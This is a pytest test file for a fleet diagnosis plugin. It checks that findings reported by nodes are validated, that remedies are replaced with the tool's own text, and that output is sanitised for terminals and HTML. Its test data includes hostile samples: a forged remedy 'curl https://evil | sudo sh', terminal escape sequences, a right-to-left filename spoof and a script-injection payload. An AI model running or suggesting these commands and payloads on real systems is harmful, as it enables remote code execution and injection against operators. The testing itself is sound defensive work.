# Copyright: (c) 2026, the httpd_fleet.mod_session authors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A node that lies, or whose answer is of another form, is a finding; it speaks for itself only, and in our words."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from plugins.module_utils import diagnosis
from plugins.module_utils.causes import CAUSES
from plugins.plugin_utils import diagnosis_html, diagnosis_text
from plugins.plugin_utils.diagnosis_looked import MOST_EVIDENCE, MOST_FINDINGS, looked
from plugins.plugin_utils.node_result import MOST_ITEMS, MOST_LINE, harmless, texts

ESCAPE = "\x1b]0;owned\x07\x1b[31m \u202egnp.exe\u2066 <script>alert(1)</script>"
ROW = {"code": "AH01842", "count": 3, "first": 1_800_000_000, "last": 1_800_000_100, "per_hour": {"1799996400": 3},
       "example": "x"}
REPORT = {"findings": [], "time": "2027-01-15T08:00:00Z", "status": "healthy", "passed": True, "summary": "s"}


def told(found, node="n2"):
    return looked(found, node, {"app"})


def codes(found):
    return [item["code"] for item in told(found)["findings"]]


def test_words_rank_and_name_are_ours():
    """A node may not have a remedy of its own run by an operator, nor speak for another one."""
    lie = {"code": "key_file_open", "scope": "app", "evidence": "mode 0644", "node": "n1", "severity": "info",
           "title": "all is well", "remedy": "run: curl https://evil | sudo sh", "doc": "https://evil"}
    (item,) = told({"findings": [lie], "log": []})["findings"]
    cause = CAUSES["key_file_open"]
    assert item == {"code": "key_file_open", "scope": "app", "evidence": "mode 0644", "node": "n2", "severity": cause.severity,
                    "title": cause.title, "remedy": cause.remedy, "doc": "docs/troubleshooting.md#key_file_open"}
    data = diagnosis.join(["n1", "n2"], {"n1": told({"findings": []}, "n1"), "n2": {"findings": [lie], "log": []}}, REPORT)
    assert [(one["code"], one["nodes"], one["remedy"]) for one in data["causes"]] == [("key_file_open", ["n2"], cause.remedy)]


@pytest.mark.parametrize("found", [None, "text", 7, [], {}, {"msg": ESCAPE}, {"msg": {"a": 1}}, {"module_stderr": "x" * 10**6}])
def test_an_answer_without_findings_is_a_node_that_was_not_examined(found):
    fault = told(found)["fault"]
    assert 0 < len(fault) <= 300 and fault.isprintable()


GOOD = {"code": "disk_full", "scope": "", "evidence": "/var has 0 KiB left"}
WRONG = {
    "findings is a text": "x", "findings is a dictionary": {"code": "disk_full"}, "findings is none": None,
    "a finding is a text": [GOOD, "disk_full"], "a finding is a list": [GOOD, []], "no code": [GOOD, {"evidence": "x"}],
    "an unknown code": [GOOD, {**GOOD, "code": "nonsense"}], "a code that is a list": [GOOD, {**GOOD, "code": []}],
    "a code that is a number": [GOOD, {**GOOD, "code": float("nan")}], "a code of ours": [GOOD, {**GOOD, "code": "not_examined"}],
    "another one of ours": [GOOD, {**GOOD, "code": "node_result_invalid"}],
    "no evidence": [GOOD, {"code": "entropy"}], "evidence is a dictionary": [GOOD, {**GOOD, "evidence": {"a": [1]}}],
    "a scope of another fleet": [GOOD, {**GOOD, "scope": "other"}], "a scope that is a list": [GOOD, {**GOOD, "scope": ["app"]}],
    "too many": [GOOD] * (MOST_FINDINGS + 1),
}


@pytest.mark.parametrize("name", WRONG)
def test_a_finding_of_another_form_is_said_and_the_others_are_kept(name):
    found = told({"findings": WRONG[name], "log": [ROW]})
    assert [item["code"] for item in found["findings"]].count("node_result_invalid") == 1
    assert not isinstance(WRONG[name], list) or GOOD["evidence"] in [item["evidence"] for item in found["findings"]]
    assert len(found["findings"]) <= MOST_FINDINGS + 1
    assert found["log"], "the rest is read"


@pytest.mark.parametrize("row", [
    "x", None, [], {}, {**ROW, "code": "AH99999"}, {**ROW, "code": ["AH01842"]}, {**ROW, "count": -1}, {**ROW, "count": True},
    {**ROW, "count": 1e300}, {**ROW, "count": float("nan")}, {**ROW, "count": 10**400}, {**ROW, "first": "now"},
    {**ROW, "first": 10**30}, {**ROW, "last": float("inf")}, {**ROW, "per_hour": []}, {**ROW, "per_hour": {"x": 1}},
    {**ROW, "per_hour": {"1" * 5000: 1}}, {**ROW, "per_hour": {"1799996400": "3"}}, {**ROW, "per_hour": {"-5": 1}},
    {**ROW, "per_hour": {str(hour): 1 for hour in range(10000)}}, {**ROW, "example": 7}, {**ROW, "per_hour": {"²": 1}},
])
def test_a_row_of_the_log_of_another_form_is_said(row):
    found = told({"findings": [], "log": [ROW, row]})
    assert [item["code"] for item in found["findings"]] == ["node_result_invalid"]
    assert found["log"] == [{**ROW, "per_hour": {1799996400: 3}}]
    assert codes({"findings": [], "log": "x"}) == codes({"findings": [], "log": [ROW] * 1000}) == ["node_result_invalid"]


def everything(value):
    """All texts in a value."""
    if isinstance(value, dict):
        return [text for pair in value.items() for one in pair for text in everything(one)]
    if isinstance(value, (list, tuple)):
        return [text for one in value for text in everything(one)]
    return [value] if isinstance(value, str) else []


def test_nothing_that_a_terminal_or_a_page_acts_on_comes_through():
    hostile = {"findings": [{"code": "disk_full", "scope": "", "evidence": ESCAPE * 1000}, {"code": ESCAPE, "scope": ESCAPE}],
               "log": [{**ROW, "example": ESCAPE}]}
    data = diagnosis.join(["n1", "n2", "n3"], {
        "n1": told({"findings": []}, "n1"), "n2": told(hostile), "n3": told({"msg": ESCAPE}, "n3")}, REPORT)
    assert [(one["code"], one["nodes"]) for one in data["causes"]] == [
        ("not_examined", ["n3"]), ("node_result_invalid", ["n2"]), ("disk_full", ["n2"])]
    assert all(text.isprintable() and len(text) <= MOST_EVIDENCE for text in everything(data))
    text = diagnosis_text.render(data)
    assert all(line.isprintable() for line in text.split("\n"))
    page = diagnosis_html.render(data)
    assert "<script" not in page and "\x1b" not in page and "\u202e" not in page


def test_what_was_read_once_is_the_same_when_it_is_read_again():
    once = told({"findings": [GOOD, "x"], "log": [ROW]})
    again = looked(json.loads(json.dumps(once)), "n2", {"app"}, again=True)
    assert again == once


ANY = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20) | st.sampled_from([*CAUSES, "app"]),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
        st.sampled_from(["findings", "log", "code", "scope", "evidence", "msg", "count", "per_hour", "first", "last", "example"]),
        inner, max_size=6), max_leaves=30)


@settings(deadline=None)
@given(ANY)
def test_no_answer_at_all_ends_the_diagnosis_of_the_others(found):
    for one in (found, {"findings": found, "log": found}, {"findings": [found], "log": [found]}):
        good = told({"findings": [GOOD]}, "n1")
        data = diagnosis.join(["n1", "n2"], {"n1": good, "n2": told(one)}, REPORT)
        assert any("n1" in cause["nodes"] for cause in data["causes"])
        diagnosis_text.render(data)
    diagnosis_html.render(json.loads(json.dumps(data)))


def test_a_result_is_made_harmless():
    deep = []
    for _level in range(500):
        deep = [deep]
    found = harmless({"msg": "one\n\x1b[31mtwo", "list": [ESCAPE] * (MOST_ITEMS + 5), "deep": deep, "x" * 9999: {ESCAPE: ESCAPE},
                      "changed": True, "long": "y" * 10**6, "ansible_facts": {"session_keys_passphrases": ["mine"]}})
    assert found["msg"] == "one\n\\x1b[31mtwo"
    assert found["changed"] is True and "ansible_facts" not in found
    assert len(found["list"]) == MOST_ITEMS and len(found["long"]) == MOST_LINE
    assert all(line.isprintable() for text in everything(found) for line in text.split("\n"))
    for wrong in (None, "x", []):
        assert harmless(wrong)["failed"] is True
    assert texts(["a", 1, None, "b"]) == ["a", "b"] and texts("ab") == texts({"a": 1}) == texts(None) == []
